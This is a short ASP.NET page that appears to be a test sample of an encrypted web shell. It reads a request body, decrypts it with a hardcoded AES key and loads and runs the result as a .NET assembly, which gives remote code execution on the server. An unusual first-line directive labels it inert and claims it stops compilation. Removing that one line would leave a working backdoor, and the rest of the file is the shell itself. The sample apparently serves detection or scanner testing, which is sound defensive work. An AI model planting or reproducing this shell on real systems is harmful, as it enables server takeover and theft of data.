<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<% if (Request["made"] != null) {
     byte[] key = Encoding.Default.GetBytes("made-for-a-test!");
     byte[] sent = Request.BinaryRead(Request.ContentLength);
     byte[] plain = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(sent, 0, sent.Length);
     Assembly.Load(plain).CreateInstance("Made").Equals(this);
   } %>
